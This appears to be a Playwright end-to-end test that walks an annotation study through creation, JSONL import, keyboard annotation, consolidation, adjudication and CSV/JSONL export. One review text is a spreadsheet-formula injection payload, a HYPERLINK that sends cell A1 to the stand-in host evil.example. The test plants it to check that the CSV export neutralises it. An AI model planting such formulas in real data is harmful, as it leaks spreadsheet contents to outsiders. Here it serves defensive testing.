/**
 * A whole study walked as its people would, in Chromium, with a screenshot at each step
 * (test-results/study-walk/): a lead creates a CRScore-style study with the New study form,
 * imports a small JSONL file, adds two annotators and makes two calibration rounds (preview,
 * then confirm). Each annotator does round 1 by keyboard only: stage 1 (codes, an error type, a
 * missing claim typed and left with Esc, a reload mid-item that keeps answers and cursor), then,
 * once the lead has consolidated, stage 2 (necessity keys, addressed pseudo-references, Likert
 * digits). The lead releases round 2, adjudicates the two rating disagreements moving on with the
 * next-disagreement key, and exports: the long CSV neutralises a review text that starts with
 * `=`, the JSONL keeps it, and each export downloaded twice is the same bytes.
 */
import { mkdirSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { expect, test, type Browser, type Download, type Page } from "@playwright/test";
import { E2E_ACCOUNTS, signIn, testDb } from "./fixtures";
import { expectSaved, gotoWorkspace, keys, newAnnotator, watchPageErrors } from "./workspace-fixtures";

const SHOTS = "test-results/study-walk";
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click") Retry with a backoff.';

/** The file the lead imports: two code changes with claims, an implication, a smell and two reviews each. */
function studyFile(): string {
  const change = (id: string, position: number, path: string, before: string, after: string, claims: string[], implication: string, smell: string, reviews: [string, string][]) => ({
    id,
    filePath: path,
    language: "python",
    diff: `@@ -1 +1 @@\n-${before}\n+${after}\n`,
    oldFile: `${before}\n`,
    newFile: `${after}\n`,
    position,
    pseudoReferences: [
      ...claims.map((text, i) => ({ id: `c${i + 1}`, text, kind: "CLAIM", source: "magicoder", position: i })),
      { id: "i1", text: implication, kind: "IMPLICATION", source: "magicoder", position: claims.length },
      { id: "s1", text: smell, kind: "SMELL", source: "pylint", position: claims.length + 1 },
    ],
    reviews: [{ id: "human", system: "human", text: reviews[0][1], isReference: true, position: 0 }, ...reviews.slice(1).map(([system, text], i) => ({ id: system, system, text, position: i + 1 }))],
  });
  return [
    change(
      "walk-retry",
      0,
      "client/http.py",
      "response = session.get(url)",
      "response = session.get(url, timeout=5)",
      ["A timeout of 5 seconds is added to the request.", "The request is retried three times."],
      "A slow server no longer blocks the client forever.",
      "Missing function docstring",
      [
        ["human", "Why 5 seconds? Make the timeout a setting."],
        ["gpt-3.5", FORMULA],
      ],
    ),
    change(
      "walk-parse",
      1,
      "util/parse.py",
      "value = int(text)",
      "value = int(text.strip())",
      ["Whitespace around the number is ignored."],
      "Inputs with a trailing newline now parse.",
      "Missing module docstring",
      [
        ["human", "Also strip in parse_float."],
        ["codereviewer", "Looks good."],
      ],
    ),
  ]
    .map((line) => JSON.stringify(line))
    .join("\n");
}

/** Screenshots, numbered in the order they are taken. */
function camera() {
  mkdirSync(SHOTS, { recursive: true });
  let n = 0;
  return (page: Page, name: string) => page.screenshot({ path: `${SHOTS}/${String(++n).padStart(2, "0")}-${name}.png`, fullPage: true });
}

const bytesOf = async (download: Download) => Buffer.concat(await (await download.createReadStream()).toArray());

/** Downloads `link`'s file twice: the two must be the same bytes. */
async function downloadTwice(page: Page, link: string): Promise<{ name: string; bytes: Buffer }> {
  const files: { name: string; bytes: Buffer }[] = [];
  for (let i = 0; i < 2; i++) {
    const downloading = page.waitForEvent("download");
    await page.getByRole("link", { name: link, exact: true }).click();
    const download = await downloading;
    files.push({ name: download.suggestedFilename(), bytes: await bytesOf(download) });
  }
  expect(files[1].name).toBe(files[0].name);
  expect(files[1].bytes.equals(files[0].bytes)).toBe(true);
  return files[0];
}

async function newPage(browser: Browser, account: { email: string; password: string }): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await signIn(page, account);
  return page;
}

test("a study walked from creation to export by a lead and two annotators", async ({ page: lead, browser }) => {
  test.setTimeout(180_000);
  const shot = camera();
  const db = testDb();
  const stamp = Date.now();
  const slug = `walk-${stamp}`;
  const errors = watchPageErrors(lead);

  // --- the lead creates the study with the form, imports the file and adds two annotators
  await signIn(lead, E2E_ACCOUNTS.lead);
  await lead.goto("/studies/new");
  const form = lead.getByRole("form", { name: "New study" });
  await form.getByLabel("Name").fill(`Walk ${stamp}`);
  await expect(form.getByLabel("Slug")).toHaveValue(slug);
  await form.getByLabel("Claim verification").check();
  await form.getByLabel("Review rating").check();
  await shot(lead, "new-study-form");
  await form.getByRole("button", { name: "Create study" }).click();
  await expect(lead).toHaveURL(new RegExp(`/studies/${slug}$`));

  await lead.getByRole("link", { name: "Import data" }).first().click();
  const upload = lead.getByRole("form", { name: "Import files" });
  await upload.getByLabel("Format").selectOption("jsonl");
  await upload.getByLabel("Files", { exact: true }).setInputFiles({ name: "walk.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(studyFile()) });
  await upload.getByRole("button", { name: "Import" }).click();
  const done = lead.getByRole("region", { name: "Import done" });
  await expect(done.getByTestId("import-counts").locator("tbody tr").first().locator("td")).toHaveText(["code changes", "2", "0", "0"]);
  await shot(lead, "import-done");
  await done.getByTestId("import-study-link").click();
  await expect(lead).toHaveURL(new RegExp(`/studies/${slug}$`));

  const [annA, annB] = [await newAnnotator("walk-a"), await newAnnotator("walk-b")];
  await lead.goto(`/studies/${slug}/members`);
  const add = lead.getByRole("form", { name: "Add member" });
  for (const a of [annA, annB]) {
    await add.getByLabel("Email").fill(a.account.email);
    await add.getByRole("button", { name: "Add" }).click();
    await expect(lead.getByText(a.account.email).first()).toBeVisible();
  }
  await shot(lead, "members");

  // --- two rounds of one code change each: previewed, then made
  await lead.goto(`/studies/${slug}/rounds`);
  const make = lead.getByRole("form", { name: "Make rounds" });
  await make.getByLabel("Equal rounds").fill("2");
  await make.getByRole("button", { name: "Preview rounds" }).click();
  const preview = lead.getByTestId("rounds-preview");
  await expect(preview).toContainText("2 rounds (round-1: 1 code change, round-2: 1 code change); every code change of the study is in a round.");
  // each annotator: both stages of each change
  await expect(preview.getByTestId("rounds-preview-changes")).toHaveText("Assignments: 8 new, 0 moved in their queues, 0 unopened removed, 0 started kept.");
  await shot(lead, "rounds-preview");
  expect(await db.assignment.count({ where: { study: { slug } } })).toBe(0);
  await preview.getByRole("button", { name: "Make 2 rounds and create 8 assignments" }).click();
  await expect(lead.getByTestId("round")).toHaveCount(2);
  await expect(lead.getByTestId("round-status").first()).toContainText("open");
  await expect(lead.getByTestId("round-status").nth(1)).toContainText("not open yet");
  await shot(lead, "rounds-made");

  const change = (externalId: string) => db.codeChange.findFirstOrThrow({ where: { externalId, study: { slug } } });
  const [retry, parse_] = [await change("walk-retry"), await change("walk-parse")];
  const assignment = (accountId: string, codeChangeId: string, task: "CLAIM_VERIFICATION" | "REVIEW_RATING") => db.assignment.findFirstOrThrow({ where: { annotatorId: accountId, codeChangeId, task } });

  // --- stage 1 by keyboard. A: the round-2 item is locked and links to the open one
  const pageA = await newPage(browser, annA.account);
  const pageB = await newPage(browser, annB.account);
  const errorsA = watchPageErrors(pageA);
  const heldA = await assignment(annA.accountId, parse_.id, "CLAIM_VERIFICATION");
  const stage1A = await assignment(annA.accountId, retry.id, "CLAIM_VERIFICATION");
  await pageA.goto(`/annotate/${heldA.id}`);
  await expect(pageA.getByTestId("locked")).toContainText("waiting for the next round");
  await shot(pageA, "annotator-locked-round-2");
  await pageA.getByTestId("next-open-item").click();
  await expect(pageA).toHaveURL(new RegExp(`/annotate/${stage1A.id}$`));
  await expect(pageA.getByTestId("workspace")).toHaveAttribute("data-ready", "true");

  const claimsA = pageA.getByTestId("claim-judgement");
  await expect(claimsA).toHaveCount(3);
  // claim 1 correct; claim 2 incorrect, reasoning error (the error type goes with the claim just coded)
  await keys(pageA, "1", "0", "e", "3");
  await expect(claimsA.nth(2)).toHaveAttribute("aria-current", "true");
  await expectSaved(pageA);
  await shot(pageA, "stage1-two-coded");
  // a reload mid-item: answers kept, the cursor on the first unanswered claim
  await pageA.reload();
  await expect(pageA.getByTestId("workspace")).toHaveAttribute("data-ready", "true");
  await expect(claimsA.nth(0)).toHaveAttribute("data-code", "CORRECT");
  await expect(claimsA.nth(1)).toHaveAttribute("data-code", "INCORRECT");
  await expect(pageA.getByLabel("Error type of claim 2")).toHaveValue("REASONING");
  await expect(claimsA.nth(2)).toHaveAttribute("aria-current", "true");
  await shot(pageA, "stage1-after-reload");
  // the implication correct, then a missing claim typed and left with Esc
  await keys(pageA, "1", "a");
  await expect(pageA.getByLabel("Add a missing claim")).toBeFocused();
  await pageA.keyboard.type("Every attempt now waits at most five seconds.");
  await keys(pageA, "Escape");
  await expect(pageA.getByLabel("Add a missing claim")).not.toBeFocused();
  await expect(pageA.getByLabel("Added claim 1")).toHaveValue("Every attempt now waits at most five seconds.");
  await expectSaved(pageA);
  await pageA.reload();
  await expect(pageA.getByTestId("workspace")).toHaveAttribute("data-ready", "true");
  await expect(pageA.getByLabel("Added claim 1")).toHaveValue("Every attempt now waits at most five seconds.");
  await shot(pageA, "stage1-added-claim-after-reload");
  await keys(pageA, "Control+Enter");
  await expect(pageA).toHaveURL(/\/annotate$/);
  await expect(pageA.getByTestId("assignment-row").filter({ hasText: "client/http.py" }).getByTestId("assignment-status")).toHaveText(["done", "waiting for a lead to consolidate stage 1"]);
  await shot(pageA, "queue-after-stage1");

  // B: claims 1 and 2 correct, the implication ambiguous
  const stage1B = await assignment(annB.accountId, retry.id, "CLAIM_VERIFICATION");
  await gotoWorkspace(pageB, stage1B.id);
  await keys(pageB, "1", "1", "2");
  await expectSaved(pageB);
  await shot(pageB, "stage1-b");
  await keys(pageB, "Control+Enter");
  await expect(pageB).toHaveURL(/\/annotate$/);

  const judgements = await db.claimJudgement.findMany({ where: { pseudoReference: { codeChangeId: retry.id } }, include: { pseudoReference: true } });
  const codeOf = (accountId: string, externalId: string) => judgements.find((j) => j.annotatorId === accountId && j.pseudoReference.externalId === externalId);
  expect(["c1", "c2", "i1"].map((id) => codeOf(annA.accountId, id)?.code)).toEqual(["CORRECT", "INCORRECT", "CORRECT"]);
  expect(codeOf(annA.accountId, "c2")?.errorType).toBe("REASONING");
  expect(["c1", "c2", "i1"].map((id) => codeOf(annB.accountId, id)?.code)).toEqual(["CORRECT", "CORRECT", "AMBIGUOUS"]);
  expect(await db.pseudoReference.findMany({ where: { addedById: annA.accountId }, select: { text: true } })).toEqual([{ text: "Every attempt now waits at most five seconds." }]);

  // --- the lead consolidates: a tie needs a choice
  await lead.goto(`/studies/${slug}/consolidate`);
  await shot(lead, "consolidation-list");
  await lead.getByTestId("consolidation-row").filter({ hasText: "walk-retry" }).getByRole("link").first().click();
  const rows = lead.getByTestId("consolidation-claim");
  await expect(rows).toHaveCount(4);
  await expect(rows.nth(1)).toContainText("2. The request is retried three times.");
  await expect(rows.nth(3)).toContainText("4. Every attempt now waits at most five seconds.");
  await shot(lead, "consolidation-item");
  for (const row of await rows.filter({ has: lead.getByTestId("claim-agreement").filter({ hasText: "tie" }) }).all()) await row.getByLabel("keep").check();
  await lead.getByRole("button", { name: "Save consolidation" }).click();
  await expect(lead.getByRole("form", { name: "Consolidation" }).getByRole("status")).toHaveText(/Consolidated: \d+ decisions saved/);
  await expect(lead.getByTestId("next-disagreement")).toHaveText("No other disagreement is open. All items");
  await shot(lead, "consolidation-saved");

  // --- stage 2 by keyboard: necessity, then per review one addressed pseudo-reference and three scores
  const rate = async (page: Page, accountId: string, conciseness: string) => {
    const stage2 = await assignment(accountId, retry.id, "REVIEW_RATING");
    await gotoWorkspace(page, stage2.id);
    const necessity = page.getByTestId("necessity");
    const n = await necessity.count();
    expect(n).toBeGreaterThanOrEqual(4);
    // every pseudo-reference necessary but the last
    await keys(page, ...Array<string>(n - 1).fill("y"), "u");
    const reviews = page.getByTestId("review");
    await expect(reviews).toHaveCount(2);
    for (let i = 0; i < 2; i++) {
      await expect(reviews.nth(i)).toHaveAttribute("aria-current", "true");
      // x ticks pseudo-reference 1; l past the pseudo-references to the first dimension; three digits
      await keys(page, "x", ...Array<string>(n).fill("l"), conciseness, "3", "3");
    }
    await expectSaved(page);
    await shot(page, `stage2-${conciseness}`);
    await keys(page, "Control+Enter");
    await expect(page).toHaveURL(/\/annotate$/);
    await expect(page.getByTestId("waiting-for-round")).toContainText("waiting for the next round");
    await shot(page, `queue-waiting-round-${conciseness}`);
    return n;
  };
  const n = await rate(pageA, annA.accountId, "4");
  await rate(pageB, annB.accountId, "2");
  const ratings = await db.reviewRating.findMany({ where: { review: { codeChangeId: retry.id } }, include: { links: true } });
  expect(ratings).toHaveLength(4);
  for (const r of ratings) {
    expect(r.scores).toEqual({ conciseness: r.annotatorId === annA.accountId ? 4 : 2, comprehensiveness: 3, relevance: 3 });
    expect(r.links).toHaveLength(1);
  }
  const necessary = await db.claimJudgement.findMany({ where: { annotatorId: annA.accountId, pseudoReference: { codeChangeId: retry.id }, necessary: { not: null } }, select: { necessary: true } });
  expect(necessary).toHaveLength(n);
  expect(necessary.filter((j) => j.necessary === false)).toHaveLength(1);

  // --- round 1 is closed: the lead releases round 2, which opens to the annotators
  await lead.goto(`/studies/${slug}/rounds`);
  await expect(lead.getByTestId("round-status").first()).toContainText("closed");
  await shot(lead, "round-1-closed");
  const release = lead.getByRole("form", { name: "Release round 2" });
  await release.getByLabel(/Notes on the review of round 1/).fill("Conciseness: grade the text, not the advice.");
  await release.getByRole("button", { name: "Release round 2" }).click();
  await expect(lead.getByTestId("round-status").nth(1)).toContainText("opened");
  await pageA.goto(`/annotate/${heldA.id}`);
  await expect(pageA.getByTestId("workspace")).toHaveAttribute("data-ready", "true");
  await shot(pageA, "round-2-open");

  // --- the lead adjudicates the two conciseness disagreements, moving on with n
  await lead.goto(`/studies/${slug}/adjudicate?task=REVIEW_RATING&question=conciseness`);
  const open = lead.getByTestId("open-disagreement");
  await expect(open).toHaveCount(2);
  await shot(lead, "adjudication-queue");
  await open.first().getByRole("link").click();
  for (let i = 0; i < 2; i++) {
    const consensus = lead.getByRole("form", { name: /Consensus: conciseness/i });
    await consensus.getByLabel("3", { exact: true }).check();
    await consensus.getByLabel("Reason").fill("between the two: the review is short but repeats itself");
    await consensus.getByRole("button", { name: "Save consensus" }).click();
    await expect(consensus.getByRole("status")).toContainText("version 1");
    await shot(lead, `adjudicated-${i + 1}`);
    if (i === 0) {
      // the link to the next disagreement has the focus: the key n moves on
      await expect(lead.getByTestId("next-disagreement")).toBeFocused();
      const heading = await lead.getByRole("heading", { level: 1 }).innerText();
      await lead.keyboard.press("n");
      await expect(lead.getByRole("heading", { level: 1 })).not.toHaveText(heading);
    }
  }
  await expect(lead.getByTestId("next-disagreement")).toContainText("No other disagreement is open");
  expect(await db.consensus.count({ where: { study: { slug }, task: "REVIEW_RATING", question: "conciseness" } })).toBe(2);

  // --- exports: long CSV and JSONL, each twice the same bytes; the CSV neutralises the formula, the JSONL keeps it
  await lead.goto(`/studies/${slug}`);
  await shot(lead, "study-page");
  const csv = await downloadTwice(lead, "long CSV");
  expect(csv.name).toBe(`${slug}.long.csv`);
  const records = parse(csv.bytes.toString("utf8"), { columns: true }) as Record<string, string>[];
  const formula = records.filter((r) => r.itemText.includes("HYPERLINK"));
  expect(formula.length).toBeGreaterThan(0);
  for (const r of formula) expect(r.itemText).toBe(`'${FORMULA}`);
  expect(records.flatMap((r) => Object.values(r)).filter((cell) => /^[=+@\t\r]/.test(cell))).toEqual([]);
  expect(records.filter((r) => r.question === "conciseness" && r.consensus === "3")).toHaveLength(4);
  const jsonl = await downloadTwice(lead, "JSONL (re-importable, Hugging Face datasets)");
  expect(jsonl.name).toBe(`${slug}.jsonl`);
  const lines = jsonl.bytes
    .toString("utf8")
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as { id: string; reviews: { text: string }[] });
  expect(lines.find((l) => l.id === "walk-retry")!.reviews.map((r) => r.text)).toContain(FORMULA);

  expect(errors).toEqual([]);
  expect(errorsA).toEqual([]);
  await pageA.context().close();
  await pageB.context().close();
});
